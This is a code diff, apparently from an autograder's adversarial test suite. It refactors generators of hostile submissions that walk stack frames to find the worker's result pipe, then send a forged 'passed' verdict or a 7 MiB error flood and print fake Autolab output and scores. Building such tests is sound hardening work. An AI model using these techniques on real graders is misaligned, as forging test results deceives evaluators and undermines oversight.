@@ -73,15 +73,12 @@ def _write_fake(targets: list[str], indent: str = "") -> str:
     return textwrap.indent(code, indent)
 
 
-def forger(targets: list[str]) -> str:
-    """No implementation at all: it prints a fake Autolab line, writes fake scores wherever it
-    can, hunts the worker's result pipe in its callers' frames and sends a forged result
-    (zeros, and an object array that would need pickle), then exits."""
+def _send_result(arrays: str) -> str:
+    """Attack code: hunt the worker's result pipe in its callers' frames and, found, send
+    ``np.savez(buffer, <arrays>)`` through it as the test's result, then exit."""
     return f"""
-import io, json, os, struct, sys
+import io, os, struct, sys
 import numpy as np
-print({FAKE!r}, flush=True)
-{_write_fake(targets)}
 frame, fd = sys._getframe(), None
 while frame is not None and fd is None:
     config = frame.f_locals.get("config")
@@ -90,12 +87,23 @@ while frame is not None and fd is None:
     frame = frame.f_back
 if fd is not None:
     buffer = io.BytesIO()
-    np.savez(buffer, **{{"gradient of input 0": np.zeros((3, 4)), "gradient of input 1": np.zeros((3, 4)),
-                        "verdict": np.array([{{"passed": True}}], dtype=object)}})
+    np.savez(buffer, {arrays})
     payload = buffer.getvalue()
     os.write(fd, b"R" + b"D" + struct.pack(">Q", len(payload)) + payload)
     os._exit(0)
 """
+
+
+def forger(targets: list[str]) -> str:
+    """No implementation at all: it prints a fake Autolab line, writes fake scores wherever it
+    can, hunts the worker's result pipe in its callers' frames and sends a forged result
+    (zeros, and an object array that would need pickle), then exits."""
+    forged = """**{"gradient of input 0": np.zeros((3, 4)), "gradient of input 1": np.zeros((3, 4)),
+                   "verdict": np.array([{"passed": True}], dtype=object)}"""
+    return f"""
+print({FAKE!r}, flush=True)
+{_write_fake(targets)}
+""" + _send_result(forged)
 
 
 PATCHER = """
@@ -443,23 +451,7 @@ _functional.mul_backward = _thieving_mul
 with what it read."""
 
 
-ERROR_FLOOD = """
-import os, struct, sys
-import numpy as np
-frame, fd = sys._getframe(), None
-while frame is not None and fd is None:
-    config = frame.f_locals.get("config")
-    if isinstance(config, dict) and "result_fd" in config:
-        fd = config["result_fd"]
-    frame = frame.f_back
-if fd is not None:
-    import io
-    buffer = io.BytesIO()
-    np.savez(buffer, __error__=np.full(7 * 2**20, ord("E"), dtype=np.uint8))  # the worker cuts its own to 4000
-    payload = buffer.getvalue()
-    os.write(fd, b"R" + b"D" + struct.pack(">Q", len(payload)) + payload)
-    os._exit(0)
-"""
+ERROR_FLOOD = _send_result('__error__=np.full(7 * 2**20, ord("E"), dtype=np.uint8)')  # the worker cuts its own to 4000
 """Sends, as every test's result, an error text of 7 MiB (within the channel's 8 MiB)."""
 
 
